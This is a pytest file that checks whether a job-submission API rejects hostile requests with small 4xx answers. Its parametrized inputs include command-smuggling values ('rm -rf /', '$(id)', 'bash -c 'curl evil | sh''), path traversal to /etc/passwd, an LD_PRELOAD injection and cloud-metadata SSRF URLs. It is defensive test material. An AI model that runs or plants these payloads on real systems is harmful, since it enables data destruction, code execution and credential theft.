"""Hostile requests against a live uvicorn server: every one gets a 4xx, never a 5xx,
and every answer is small.

The server talks to the session's real Ray with `max_concurrent_jobs = 0`, so a
spec that wrongly passed validation would answer 429 (not 201) and start nothing.
Oversized bodies go through raw sockets too, to show the server answers 413 from
the headers without reading a byte of the body.
"""

from __future__ import annotations

import json
import socket
from pathlib import Path

import httpx
import pytest

from api.settings import Settings
from tests.test_api_support import API_TOKEN, LiveServer, make_settings, tiny_spec

SMALL = 2048  # bytes: no answer quotes more than a short prefix of its input
MIB = 2**20


@pytest.fixture(scope="module")
def storage(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("hostile-runs")


@pytest.fixture(scope="module")
def server(ray_cluster, storage):
    with LiveServer(make_settings(ray_cluster, storage, max_concurrent_jobs=0)) as s:
        yield s


@pytest.fixture
def api(server):
    with server.client() as c:
        yield c


def assert_rejected(r: httpx.Response, *codes: int) -> None:
    assert 400 <= r.status_code < 500, (r.status_code, r.text[:500])
    if codes:
        assert r.status_code in codes, (r.status_code, r.text[:500])
    assert len(r.content) <= SMALL, (r.status_code, len(r.content), r.text[:200])


def spec_with(path: tuple, value) -> dict:
    spec = tiny_spec("hostile")
    node = spec
    for key in path[:-1]:
        node = node.setdefault(key, {})
    node[path[-1]] = value
    return spec


def raw_request(server: LiveServer, head: bytes) -> bytes:
    """Send a request head as it is; return the answer (until it is whole or the server closes)."""
    with socket.create_connection(("127.0.0.1", server.port), timeout=30) as s:
        s.sendall(head)
        chunks = []
        while True:
            try:
                chunk = s.recv(65536)
            except (ConnectionResetError, socket.timeout):
                break
            if not chunk:
                break
            chunks.append(chunk)
            if b"\r\n\r\n" in b"".join(chunks) and _complete(b"".join(chunks)):
                break
    return b"".join(chunks)


def _complete(data: bytes) -> bool:
    head, _, body = data.partition(b"\r\n\r\n")
    for line in head.split(b"\r\n")[1:]:
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"content-length":
            return len(body) >= int(value)
    return False


def status_of(answer: bytes) -> int:
    return int(answer.split(b" ", 2)[1])


# ----------------------------------------------------------------------------- bodies


@pytest.mark.parametrize(
    "path,value",
    [
        (("name",), "../../etc"),
        (("name",), "a;rm -rf /"),
        (("name",), "$(id)"),
        (("name",), "`id`"),
        (("name",), "x" * 100_000),
        (("storage",), "/etc"),
        (("storage",), "{storage}/../elsewhere"),
        (("storage",), "{storage}/$(id)/../../x"),
        (("storage",), "file:///etc"),
        (("data", "manifest"), "/etc/passwd"),
        (("data", "manifest"), "../../../etc"),
        (("data", "manifest"), "/proc/self/environ"),
        (("data", "domains"), "; rm -rf /"),
        (("entrypoint",), "bash -c 'curl evil | sh'"),
        (("runtime_env",), {"env_vars": {"LD_PRELOAD": "/tmp/x.so"}}),
        (("metadata",), {"leviathan_run_dir": "/etc"}),
        (("command",), ["rm", "-rf", "/"]),
        (("training", "phase1_steps"), 10**60),
        (("training", "lr"), 1e308),
        (("seed",), -(2**70)),
        (("ensemble", "modules"), 2**63),
        (("ensemble", "members"), [{"preset": "tiny"}] * 10_000),
    ],
)
def test_hostile_spec_fields_are_rejected_small(api, storage, path, value):
    if isinstance(value, str):
        value = value.format(storage=storage)
    r = api.post("/v1/jobs", json=spec_with(path, value))
    assert_rejected(r, 422)
    assert not any(p.name.startswith("hostile") for p in storage.iterdir())


@pytest.mark.parametrize(
    "raw",
    [
        b'{"name": "a", "training": {"phase1_steps": 1e400}}',
        b'{"training": {"lr": -1e400}}',
        b'{"training": {"lr": NaN}}',
        b'{"seed": Infinity}',
        b'{"seed": -Infinity}',
        b"NaN",
        b'{"seed": 1' + b"0" * 5000 + b"}",
        b'{"name": "a", "name": "b"}',
        b'{"training": {"lr": 0.1, "lr": 0.2}}',
        b"[" * 100_000 + b"]" * 100_000,
        b'{"a":' * 500 + b"1" + b"}" * 500,
        b'{"name": "\xff\xfe"}',
        b"\xef\xbb\xbf{}",
        b'{"name": "truncated',
        b"",
    ],
)
def test_hostile_json_is_422_naming_the_field(api, raw):
    r = api.post("/v1/jobs", content=raw, headers={"Content-Type": "application/json"})
    assert_rejected(r, 422)
    assert all(e["loc"][0] == "body" for e in r.json()["detail"]), r.text


def test_non_finite_number_error_names_its_field(api):
    r = api.post("/v1/jobs", content=b'{"training": {"phase1_steps": 1e400}}',
                 headers={"Content-Type": "application/json"})
    assert_rejected(r, 422)
    assert [e["loc"] for e in r.json()["detail"]] == [["body", "training", "phase1_steps"]]


@pytest.mark.parametrize(
    "path,value",
    [
        (("name",), "a\ud800b"),
        (("tracking", "experiment"), "\udfff"),
        (("data", "domains"), ["a\udc80"]),
    ],
)
def test_a_lone_surrogate_is_422_and_echoed_escaped(api, path, value):
    raw = json.dumps(spec_with(path, value)).encode()  # the surrogate as its \\udxxx escape
    r = api.post("/v1/jobs", content=raw, headers={"Content-Type": "application/json"})
    assert_rejected(r, 422)
    loc = ["body", *path] + ([0] if isinstance(value, list) else [])
    (error,) = [e for e in r.json()["detail"] if e["loc"] == loc]
    assert "\\ud" in error["input"], error  # the echo holds the escape's text, not the surrogate


@pytest.mark.parametrize("uri", ["http://169.254.169.254/latest", "http://127.0.0.1:8265/api/jobs/",
                                 "https://mlflow.example@169.254.169.254/"])
def test_a_tracking_server_the_api_does_not_list_is_422(api, storage, uri):
    r = api.post("/v1/jobs", json=spec_with(("tracking", "mlflow_uri"), uri))
    assert_rejected(r, 422)
    assert [e["loc"] for e in r.json()["detail"]] == [["body", "tracking", "mlflow_uri"]], r.text
    assert not any(p.name.startswith("hostile") for p in storage.iterdir())


@pytest.mark.parametrize(
    "content_type",
    ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
     "application/xml", "application/json; charset=latin-1", None],
)
def test_wrong_content_types_are_rejected(api, content_type):
    headers = {"Content-Type": content_type} if content_type else {}
    body = json.dumps(tiny_spec("ctype")).encode()
    r = api.post("/v1/jobs", content=body, headers=headers)
    assert_rejected(r)


def test_default_body_limit_is_one_mib_and_set_by_environment(monkeypatch):
    assert Settings().max_body_bytes == MIB
    monkeypatch.setenv("LEVIATHAN_MAX_BODY_BYTES", "1000")
    assert Settings().max_body_bytes == 1000


def test_body_over_the_limit_is_413_and_not_echoed(api):
    filler = "x" * MIB  # one field that alone passes the limit
    r = api.post("/v1/jobs", json={**tiny_spec("big"), "name": filler})
    assert_rejected(r, 413)


def test_chunked_body_over_the_limit_is_413(api):
    def chunks():
        for _ in range(20):
            yield b"x" * (MIB // 8)

    r = api.post("/v1/jobs", content=chunks(), headers={"Content-Type": "application/json"})
    assert_rejected(r, 413)


def test_declared_huge_body_is_refused_before_it_is_sent(server):
    # Headers only: the server must answer from Content-Length, not wait for 10 MB.
    head = (
        f"POST /v1/jobs HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {API_TOKEN}\r\n"
        f"Content-Type: application/json\r\nContent-Length: {10 * MIB}\r\n\r\n"
    ).encode()
    answer = raw_request(server, head)
    assert status_of(answer) == 413 and len(answer) <= SMALL, answer[:300]


# ----------------------------------------------------------------------------- paths and queries


@pytest.mark.parametrize(
    "path",
    [
        "/v1/jobs/..%2F..%2Fetc%2Fpasswd",
        "/v1/jobs/%2e%2e",
        "/v1/jobs/a;id",
        "/v1/jobs/$(id)/metrics",
        "/v1/jobs/a%00b/logs",
        "/v1/jobs/" + "x" * 8000,
        "/v1/jobs/x/metrics?since_step=1e400",
        "/v1/jobs/x/metrics?since_step=NaN",
        "/v1/jobs/x/logs?tail=-1",
        "/v1/jobs/x/logs?tail=" + "9" * 5000,
        "/v1/jobs?limit=99999999999999999999999",
        "/v1/jobs?status=" + "R" * 5000,
    ],
)
def test_hostile_paths_and_queries_are_4xx(api, path):
    assert_rejected(api.get(path))


@pytest.mark.parametrize(
    "auth",
    [None, "", "Bearer", "Bearer wrong", f"bearer{API_TOKEN}", f"Basic {API_TOKEN}",
     "Bearer " + "x" * 8000, f"Bearer {API_TOKEN}\u00e9"],
)
def test_bad_tokens_are_401(server, auth):
    with server.client(token=None) as c:
        headers = {"Authorization": auth.encode("utf-8")} if auth is not None else {}
        r = c.post("/v1/jobs", json=tiny_spec("tok"), headers=headers)
    assert_rejected(r, 401)


def test_token_with_raw_non_ascii_bytes_is_401(server):
    head = (b"GET /v1/jobs HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer \xff\xfe\x80\r\n"
            b"Connection: close\r\n\r\n")
    answer = raw_request(server, head)
    assert status_of(answer) in (400, 401) and len(answer) <= SMALL, answer[:300]
